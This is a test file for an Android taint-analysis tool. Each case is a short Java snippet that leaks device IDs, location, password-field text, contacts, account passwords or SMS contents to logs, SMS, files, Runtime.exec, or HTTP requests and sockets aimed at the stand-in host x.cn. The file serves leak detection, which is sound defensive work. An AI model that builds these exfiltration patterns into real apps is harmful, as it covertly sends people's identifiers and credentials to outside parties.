import { describe, expect, test } from 'vitest';
import { flowsIn, IMEI, main, PRINTED } from '../made-flows.contract.ts';

const NOTHING: readonly string[] = [];
const create = 'protected void onCreate(Bundle b) { super.onCreate(b);';
const id = (context: string) => `((TelephonyManager) ${context}.getSystemService("phone")).getDeviceId()`;
const flow = (from: string, to: string, sink = 'd') => [`getDeviceId ${from} > ${sink} ${to}`];

type Row = readonly [name: string, java: string, expected: readonly string[], manifest?: Parameters<typeof flowsIn>[1]];
const all = (rows: readonly Row[]) => {
  for (const [name, java, expected, manifest] of rows) test(name, () => expect(flowsIn(java, manifest)).toEqual(expected));
};

const layout = (xml: string, ...ids: readonly string[]) => ({
  resources: {
    layout: { main: { file: 'res/layout/main.xml' } },
    ...(ids.length > 0 ? { id: Object.fromEntries(ids.map((one) => [one, false])) } : {}),
  },
  files: { 'res/layout/main.xml': xml },
});
const android = 'xmlns:android="http://schemas.android.com/apk/res/android"';

describe('callbacks', () => {
  all([
    [
      'a method that a layout names',
      `class MainActivity extends Activity { String s = ""; ${create} setContentView(R.layout.main); s = ${IMEI}; } public void go(View v) { Log.d("t", s); } }`,
      flow('MainActivity.onCreate', 'MainActivity.go'),
      layout(`<LinearLayout ${android}><Button android:onClick="go"/></LinearLayout>`),
    ],
    [
      'two methods that a layout names, in any order',
      `class MainActivity extends Activity { String s = ""; ${create} setContentView(R.layout.main); } public void go(View v) { Log.d("t", s); } public void read(View v) { s = ${IMEI}; } }`,
      flow('MainActivity.read', 'MainActivity.go'),
      layout(`<LinearLayout ${android}><Button android:onClick="go"/><Button android:onClick="read"/></LinearLayout>`),
    ],
    [
      'three methods of which one clears',
      `class MainActivity extends Activity { String s = ""; ${create} setContentView(R.layout.main); } public void go(View v) { s = ${IMEI}; s = ""; } public void out(View v) { Log.d("t", s); } }`,
      NOTHING,
      layout(`<LinearLayout ${android}><Button android:onClick="go"/><Button android:onClick="out"/></LinearLayout>`),
    ],
    [
      'a listener of another class that keeps the screen',
      `class L implements View$OnClickListener { MainActivity a; L(MainActivity a) { this.a = a; } public void onClick(View v) { Log.d("t", a.s); } } class MainActivity extends Activity { String s = ""; ${create} s = ${IMEI}; ((Button) findViewById(3)).setOnClickListener(new L(this)); } }`,
      flow('MainActivity.onCreate', 'L.onClick'),
    ],
    [
      'the screen is the listener',
      `class MainActivity extends Activity implements View$OnClickListener { String s = ""; ${create} findViewById(3).setOnClickListener(this); } public void onClick(View v) { s = ${IMEI}; } protected void onPause() { super.onPause(); Log.d("t", s); } }`,
      flow('MainActivity.onClick', 'MainActivity.onPause'),
    ],
    [
      'the screen is a listener that nobody sets',
      `class MainActivity extends Activity implements View$OnClickListener { ${create} } public void onClick(View v) { Log.d("t", ${IMEI}); } }`,
      NOTHING,
    ],
    [
      'a click on a view decides which',
      `class MainActivity extends Activity implements View$OnClickListener { String s = ""; ${create} findViewById(3).setOnClickListener(this); findViewById(4).setOnClickListener(this); } public void onClick(View v) { if (v.getId() == 3) { s = ${IMEI}; } else { Log.d("t", s); } } }`,
      flow('MainActivity.onClick', 'MainActivity.onClick'),
    ],
    [
      'a listener made by another listener',
      `class B2 implements View$OnClickListener { String s; B2(String s) { this.s = s; } public void onClick(View v) { Log.d("t", s); } } class A2 implements View$OnClickListener { MainActivity a; A2(MainActivity a) { this.a = a; } public void onClick(View v) { v.setOnClickListener(new B2(${id('a')})); } } ${main('findViewById(3).setOnClickListener(new A2(this));')}`,
      flow('A2.onClick', 'B2.onClick'),
    ],
    [
      'a place that comes as a parameter',
      `class MainActivity extends Activity implements LocationListener { ${create} ((LocationManager) getSystemService("location")).requestLocationUpdates("gps", 5L, 5.0f, this); } public void onLocationChanged(Location l) { Log.d("a", "at " + l.getLatitude()); Log.e("o", "at " + l.getLongitude()); } public void onProviderEnabled(String p) { } public void onProviderDisabled(String p) { } public void onStatusChanged(String p, int s, Bundle b) { } }`,
      [
        'getLatitude MainActivity.onLocationChanged > d MainActivity.onLocationChanged',
        'getLongitude MainActivity.onLocationChanged > e MainActivity.onLocationChanged',
      ],
    ],
    [
      'a place that is kept',
      `class MainActivity extends Activity { String a = ""; String o = ""; ${create} ((LocationManager) getSystemService("location")).requestLocationUpdates("gps", 5L, 5.0f, new LocationListener() { public void onLocationChanged(Location l) { a = Double.toString(l.getLatitude()); o = "" + l.getLongitude(); } public void onProviderEnabled(String p) { } public void onProviderDisabled(String p) { } public void onStatusChanged(String p, int s, Bundle b) { } }); } protected void onResume() { super.onResume(); Log.d("t", a); Log.e("t", o); } }`,
      [
        'getLatitude MainActivity$1.onLocationChanged > d MainActivity.onResume',
        'getLongitude MainActivity$1.onLocationChanged > e MainActivity.onResume',
      ],
    ],
    [
      'a place that is printed whole',
      `class MainActivity extends Activity implements LocationListener { ${create} ((LocationManager) getSystemService("location")).requestLocationUpdates("gps", 5L, 5.0f, this); } public void onLocationChanged(Location l) { Log.d("a", "at " + l); } public void onProviderEnabled(String p) { } public void onProviderDisabled(String p) { } public void onStatusChanged(String p, int s, Bundle b) { } }`,
      ['onLocationChanged MainActivity.onLocationChanged > d MainActivity.onLocationChanged'],
    ],
    [
      'a listener of places that is not asked for',
      `class MainActivity extends Activity implements LocationListener { ${create} } public void onLocationChanged(Location l) { Log.d("a", "at " + l.getLatitude()); } public void onProviderEnabled(String p) { } public void onProviderDisabled(String p) { } public void onStatusChanged(String p, int s, Bundle b) { } }`,
      NOTHING,
    ],
    [
      'a listener of places that is taken back',
      `class L implements LocationListener { public void onLocationChanged(Location l) { Log.d("a", "at " + l.getLatitude()); } public void onProviderEnabled(String p) { } public void onProviderDisabled(String p) { } public void onStatusChanged(String p, int s, Bundle b) { } } ${main('L l = new L(); LocationManager m = (LocationManager) getSystemService("location"); m.requestLocationUpdates("gps", 5L, 5.0f, l); m.removeUpdates(l);')}`,
      NOTHING,
    ],
    [
      'a method of the platform that is overridden',
      `class MainActivity extends Activity { protected void attachBaseContext(Context c) { super.attachBaseContext(c); Log.d("t", ${id('c')}); } }`,
      flow('MainActivity.attachBaseContext', 'MainActivity.attachBaseContext'),
    ],
    [
      'a menu',
      `class MainActivity extends Activity { String s = ""; public boolean onCreateOptionsMenu(Menu m) { s = ${IMEI}; return true; } public boolean onOptionsItemSelected(MenuItem i) { Log.d("t", s); return true; } }`,
      flow('MainActivity.onCreateOptionsMenu', 'MainActivity.onOptionsItemSelected'),
    ],
    [
      'text of a password field',
      `class MainActivity extends Activity { ${create} setContentView(R.layout.main); } public void go(View v) { EditText e = (EditText) findViewById(R.id.p); EditText n = (EditText) findViewById(R.id.n); Log.d("t", e.getText().toString()); Log.e("t", n.getText().toString()); } }`,
      ['getText MainActivity.go > d MainActivity.go'],
      layout(
        `<LinearLayout ${android}><EditText android:id="@+id/p" android:inputType="0x81"/><EditText android:id="@+id/n" android:inputType="0x1"/><Button android:onClick="go"/></LinearLayout>`,
        'p',
        'n',
      ),
    ],
    [
      'text of a password field, kept in an own object',
      `class User { String name; Word w; } class Word { String text; } class MainActivity extends Activity { User u; ${create} setContentView(R.layout.main); } protected void onRestart() { super.onRestart(); EditText e = (EditText) findViewById(R.id.p); u = new User(); u.w = new Word(); u.w.text = e.getText().toString(); } public void send(View v) { if (u != null) { SmsManager.getDefault().sendTextMessage("1", null, "u " + u.name + u.w.text, null, null); } } }`,
      ['getText MainActivity.onRestart > sendTextMessage MainActivity.send'],
      layout(
        `<LinearLayout ${android}><EditText android:id="@+id/p" android:inputType="0x81"/><Button android:onClick="send"/></LinearLayout>`,
        'p',
      ),
    ],
    [
      'a bridge for scripts',
      `class J { Context c; J(Context c) { this.c = c; } @JavascriptInterface public String id() { String s = ${id('c')}; Log.d("t", s); return s; } } ${main('WebView w = new WebView(this); w.addJavascriptInterface(new J(this), "j"); w.loadUrl("file:///x");')}`,
      flow('J.id', 'J.id'),
    ],
    [
      'a client of a page',
      `class W extends WebViewClient { Context c; W(Context c) { this.c = c; } public void onPageFinished(WebView w, String u) { w.loadUrl("javascript:f(" + ${id('c')} + ")"); } } ${main('WebView w = new WebView(this); w.setWebViewClient(new W(this));')}`,
      flow('W.onPageFinished', 'W.onPageFinished', 'loadUrl'),
    ],
    [
      'a timer and a field',
      `class MainActivity extends Activity { String s = ""; ${create} new Timer().schedule(new TimerTask() { public void run() { Log.d("t", s); } }, 5L); s = ${IMEI}; } }`,
      flow('MainActivity.onCreate', 'MainActivity$1.run'),
    ],
    [
      'a call listener',
      `class P extends PhoneStateListener { Context c; P(Context c) { this.c = c; } public void onCallStateChanged(int s, String n) { Log.d("t", ${id('c')}); } } ${main('((TelephonyManager) getSystemService("phone")).listen(new P(this), 32);')}`,
      flow('P.onCallStateChanged', 'P.onCallStateChanged'),
    ],
    [
      'a sensor',
      `class P implements SensorEventListener { Context c; P(Context c) { this.c = c; } public void onSensorChanged(SensorEvent e) { Log.d("t", ${id('c')}); } public void onAccuracyChanged(Sensor s, int n) { } } ${main('SensorManager m = (SensorManager) getSystemService("sensor"); m.registerListener(new P(this), m.getDefaultSensor(1), 3);')}`,
      flow('P.onSensorChanged', 'P.onSensorChanged'),
    ],
  ]);
});

describe('threads', () => {
  all([
    [
      'a thread of its own class',
      `class T extends Thread { String s; T(String s) { this.s = s; } public void run() { Log.d("t", s); } } ${main(`new T(${IMEI}).start();`)}`,
      flow('MainActivity.onCreate', 'T.run'),
    ],
    [
      'a thread around a task',
      `class T implements Runnable { String s; T(String s) { this.s = s; } public void run() { Log.d("t", s); } } ${main(`Thread t = new Thread(new T(${IMEI})); t.start();`)}`,
      flow('MainActivity.onCreate', 'T.run'),
    ],
    [
      'a task of an executor',
      `class T implements Runnable { String s; T(String s) { this.s = s; } public void run() { Log.d("t", s); } } ${main(`Executors.newCachedThreadPool().execute(new T(${IMEI}));`)}`,
      flow('MainActivity.onCreate', 'T.run'),
    ],
    [
      'an own executor',
      `class T implements Runnable { String s; T(String s) { this.s = s; } public void run() { Log.d("t", s); } } class E implements Executor { public void execute(Runnable r) { new Thread(r).start(); } } ${main(`new E().execute(new T(${IMEI}));`)}`,
      flow('MainActivity.onCreate', 'T.run'),
    ],
    [
      'work in the background',
      `class W extends AsyncTask { protected Object doInBackground(Object[] p) { Log.d("t", (String) p[0]); return p[0]; } protected void onPostExecute(Object o) { Log.e("t", (String) o); } } ${main(`new W().execute(new Object[] { ${IMEI} });`)}`,
      [...flow('MainActivity.onCreate', 'W.doInBackground'), ...flow('MainActivity.onCreate', 'W.onPostExecute', 'e')],
    ],
    [
      'work that is never begun',
      `class W extends AsyncTask { protected Object doInBackground(Object[] p) { Log.d("t", (String) p[0]); return null; } } ${main(`W w = new W(); String s = ${IMEI};`)}`,
      NOTHING,
    ],
    [
      'a looper of an own thread',
      `class H extends Handler { public void handleMessage(Message m) { Log.d("t", (String) m.obj); } } class T extends Thread { Handler h; public void run() { Looper.prepare(); h = new H(); Looper.loop(); } } class MainActivity extends Activity { T t = new T(); ${create} t.start(); } protected void onResume() { super.onResume(); Message m = t.h.obtainMessage(); m.obj = ${IMEI}; t.h.sendMessage(m); } }`,
      flow('MainActivity.onResume', 'H.handleMessage'),
    ],
    [
      'an anonymous handler',
      `class MainActivity extends Activity { Handler h = new Handler() { public void handleMessage(Message m) { Log.d("t", m.getData().getString("k")); } }; ${create} Message m = new Message(); Bundle d = new Bundle(); d.putString("k", ${IMEI}); m.setData(d); h.sendMessage(m); } }`,
      flow('MainActivity.onCreate', 'MainActivity$1.handleMessage'),
    ],
    [
      'a future',
      `class C implements Callable { Context c; C(Context c) { this.c = c; } public Object call() { return ${id('c')}; } } ${main('Future f = Executors.newCachedThreadPool().submit(new C(this)); Log.d("t", (String) f.get());')}`,
      flow('C.call', 'MainActivity.onCreate'),
    ],
    [
      'a task that runs on the screen',
      `class MainActivity extends Activity { String s = ""; ${create} runOnUiThread(new Runnable() { public void run() { s = ${IMEI}; } }); } protected void onDestroy() { super.onDestroy(); Log.d("t", s); } }`,
      flow('MainActivity$1.run', 'MainActivity.onDestroy'),
    ],
  ]);
});

describe('reflection', () => {
  const item =
    'class Item { public String s = ""; public void put(String v) { s = v; } public String get() { return s; } static String same(String v) { return v; } }';
  all([
    [
      'a new object and a field',
      `${item} ${main(`Item i = (Item) Class.forName("cn.made.app.Item").newInstance(); i.s = ${IMEI}; Log.d("t", i.s);`)}`,
      PRINTED,
    ],
    [
      'methods by name',
      `${item} ${main(`Class c = Class.forName("cn.made.app.Item"); Object o = c.newInstance(); Method m = c.getMethod("put", new Class[] { String.class }); m.invoke(o, new Object[] { ${IMEI} }); Method g = c.getMethod("get", new Class[0]); Log.d("t", (String) g.invoke(o, new Object[0]));`)}`,
      PRINTED,
    ],
    [
      'fields by name',
      `${item} ${main(`Class c = Class.forName("cn.made.app.Item"); Object o = c.newInstance(); Field f = c.getField("s"); f.set(o, ${IMEI}); Log.d("t", (String) f.get(o));`)}`,
      PRINTED,
    ],
    [
      'an own interface',
      `interface Get { String get(); } class A implements Get { Context c; public String get() { return "x"; } } class B implements Get { public String get() { return "y"; } } ${main('Get g = (Get) Class.forName("cn.made.app.B").newInstance(); Log.d("t", g.get());')}`,
      NOTHING,
    ],
    [
      'one of two methods of one name',
      `class Two { public void go(int n) { Log.d("t", "" + n); } public void go(String s) { Log.e("t", s); } } ${main(`Class c = Class.forName("cn.made.app.Two"); Method m = c.getMethod("go", new Class[] { String.class }); m.invoke(c.newInstance(), new Object[] { ${IMEI} });`)}`,
      flow('MainActivity.onCreate', 'Two.go', 'e'),
    ],
    [
      'one of two makers',
      `class Two { String s; public Two(Integer n) { s = "x"; } public Two(String v) { s = v; } } ${main(`Class c = Class.forName("cn.made.app.Two"); Two t = (Two) c.getConstructor(new Class[] { String.class }).newInstance(new Object[] { ${IMEI} }); Log.d("t", t.s);`)}`,
      PRINTED,
    ],
    [
      'the other of two makers',
      `class Two { String s; public Two(Integer n) { s = "x"; } public Two(String v) { s = v; } } ${main(`Class c = Class.forName("cn.made.app.Two"); String i = ${IMEI}; Two t = (Two) c.getConstructor(new Class[] { Integer.class }).newInstance(new Object[] { Integer.valueOf(3) }); Log.d("t", t.s);`)}`,
      NOTHING,
    ],
    [
      'all methods, one by its name',
      `${item} ${main(`Class c = Class.forName("cn.made.app.Item"); Object o = c.newInstance(); for (Method m : c.getDeclaredMethods()) { if (m.getName().equals("put")) { m.invoke(o, new Object[] { ${IMEI} }); } } Log.d("t", ((Item) o).s);`)}`,
      PRINTED,
    ],
    [
      'a class of an array of names',
      `${item} ${main(`String[] n = new String[] { "cn.made.app.Other", "cn.made.app.Item" }; Item i = (Item) Class.forName(n[1]).newInstance(); i.put(${IMEI}); Log.d("t", i.get());`)}`,
      PRINTED,
    ],
    [
      'a source by name',
      main(
        'TelephonyManager t = (TelephonyManager) getSystemService("phone"); Method m = t.getClass().getMethod("getDeviceId", new Class[0]); Log.d("t", (String) m.invoke(t, new Object[0]));',
      ),
      PRINTED,
    ],
    [
      'a static one',
      `${item} ${main(`Method m = Class.forName("cn.made.app.Item").getDeclaredMethod("same", new Class[] { String.class }); Log.d("t", (String) m.invoke(null, new Object[] { ${IMEI} }));`)}`,
      PRINTED,
    ],
    [
      'a screen by name',
      `${main(`Intent i = new Intent(this, Class.forName("cn.made.app.Second" + "Activity")); i.putExtra("k", ${IMEI}); startActivity(i);`)} class SecondActivity extends Activity { ${create} Log.d("t", getIntent().getStringExtra("k")); } }`,
      flow('MainActivity.onCreate', 'SecondActivity.onCreate'),
      { activities: ['.SecondActivity'] },
    ],
    [
      'setClassName by name',
      `${main(`Intent i = new Intent(); Method m = Intent.class.getMethod("setClassName", new Class[] { Context.class, String.class }); m.invoke(i, new Object[] { this, "cn.made.app.SecondActivity" }); i.putExtra("k", ${IMEI}); startActivity(i);`)} class SecondActivity extends Activity { ${create} Log.d("t", getIntent().getStringExtra("k")); } }`,
      flow('MainActivity.onCreate', 'SecondActivity.onCreate'),
      { activities: ['.SecondActivity'] },
    ],
  ]);
});

describe('ways out and in', () => {
  const http = 'HttpURLConnection c = (HttpURLConnection) new URL("http://x.cn/").openConnection();';
  all([
    [
      'an address',
      main(`URL u = new URL("http://x.cn/?i=" + ${IMEI}); HttpURLConnection c = (HttpURLConnection) u.openConnection(); c.connect();`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'openConnection'),
    ],
    [
      'an address read from',
      main(`InputStream s = new URL("http://x.cn/?i=" + ${IMEI}).openStream();`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'openStream'),
    ],
    ['an address that is only made', main(`URL u = new URL("http://x.cn/?i=" + ${IMEI}); u.toString();`), NOTHING],
    [
      'a header',
      main(`${http} c.setRequestProperty("x", ${IMEI}); c.connect();`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'setRequestProperty'),
    ],
    [
      'a body',
      main(`${http} OutputStream o = c.getOutputStream(); o.write(${IMEI}.getBytes());`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'write'),
    ],
    [
      'a body by writers',
      main(`${http} BufferedWriter w = new BufferedWriter(new OutputStreamWriter(c.getOutputStream())); w.write(${IMEI});`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'write'),
    ],
    [
      'a printer',
      main(`${http} PrintWriter w = new PrintWriter(c.getOutputStream()); w.print(${IMEI});`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'print'),
    ],
    [
      'a socket',
      main(`Socket k = new Socket("x.cn", 5); DataOutputStream o = new DataOutputStream(k.getOutputStream()); o.writeUTF(${IMEI});`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'writeUTF'),
    ],
    [
      'the old client',
      main(
        `HttpPost p = new HttpPost("http://x.cn"); List l = new ArrayList(); l.add(new BasicNameValuePair("i", ${IMEI})); p.setEntity(new UrlEncodedFormEntity(l)); new DefaultHttpClient().execute(p);`,
      ),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'execute'),
    ],
    [
      'a file of a card',
      main(
        `File f = new File(Environment.getExternalStorageDirectory(), "x"); FileOutputStream o = new FileOutputStream(f); o.write(${IMEI}.getBytes());`,
      ),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'write'),
    ],
    [
      'a started program',
      main(`Runtime.getRuntime().exec("x " + ${IMEI});`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'exec'),
    ],
    [
      'a started program by a builder',
      main(`new ProcessBuilder(new String[] { "x", ${IMEI} }).start();`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'start'),
    ],
    [
      'a message in bytes',
      main(`SmsManager.getDefault().sendDataMessage("1", null, (short) 5, ${IMEI}.getBytes(), null, null);`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'sendDataMessage'),
    ],
    [
      'the number that a message goes to',
      main(`SmsManager.getDefault().sendTextMessage(${IMEI}, null, "x", null, null);`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'sendTextMessage'),
    ],
    [
      'a provider of others',
      main(`ContentValues v = new ContentValues(); v.put("k", ${IMEI}); getContentResolver().insert(Uri.parse("content://x.y/z"), v);`),
      flow('MainActivity.onCreate', 'MainActivity.onCreate', 'insert'),
    ],
    ['a toast, which is none', main(`Toast.makeText(this, ${IMEI}, 1).show();`), NOTHING],
    ['a text that is shown, which is none', main(`((TextView) findViewById(2)).setText(${IMEI});`), NOTHING],
    ['standard output', main(`System.out.println(${IMEI});`), flow('MainActivity.onCreate', 'MainActivity.onCreate', 'println')],
    [
      'the mailbox',
      main('Log.d("t", ((TelephonyManager) getSystemService("phone")).getVoiceMailNumber());'),
      ['getVoiceMailNumber MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'contacts',
      main(
        'Cursor c = getContentResolver().query(ContactsContract$CommonDataKinds$Phone.CONTENT_URI, null, null, null, null); while (c.moveToNext()) { Log.d("t", c.getString(c.getColumnIndex("x"))); }',
      ),
      ['query MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'an account',
      main('Account[] a = AccountManager.get(this).getAccounts(); Log.d("t", a[0].name);'),
      ['getAccounts MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'a word of an account',
      main('AccountManager m = AccountManager.get(this); Log.d("t", m.getPassword(new Account("a", "b")));'),
      ['getPassword MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'the last place, whole',
      main('Location l = ((LocationManager) getSystemService("location")).getLastKnownLocation("gps"); Log.d("t", l.toString());'),
      ['getLastKnownLocation MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'the last place by halves',
      main(
        'Location l = ((LocationManager) getSystemService("location")).getLastKnownLocation("gps"); Log.d("t", "" + l.getLatitude() + l.getLongitude());',
      ),
      ['getLatitude MainActivity.onCreate > d MainActivity.onCreate', 'getLongitude MainActivity.onCreate > d MainActivity.onCreate'],
    ],
    [
      'a message that came',
      `class R extends BroadcastReceiver { public void onReceive(Context c, Intent i) { Object[] p = (Object[]) i.getExtras().get("pdus"); SmsMessage m = SmsMessage.createFromPdu((byte[]) p[0]); Log.d("t", m.getMessageBody()); } } ${main('finish();')}`,
      ['getMessageBody R.onReceive > d R.onReceive'],
      { receivers: [{ name: '.R', actions: ['android.provider.Telephony.SMS_RECEIVED'] }] },
    ],
    ['extras from outside, which are no source', main('Log.d("t", getIntent().getStringExtra("k"));'), NOTHING],
    ['native code in between', main(`Log.d("t", pass(${IMEI}));`, 'native String pass(String s);'), PRINTED],
  ]);
});
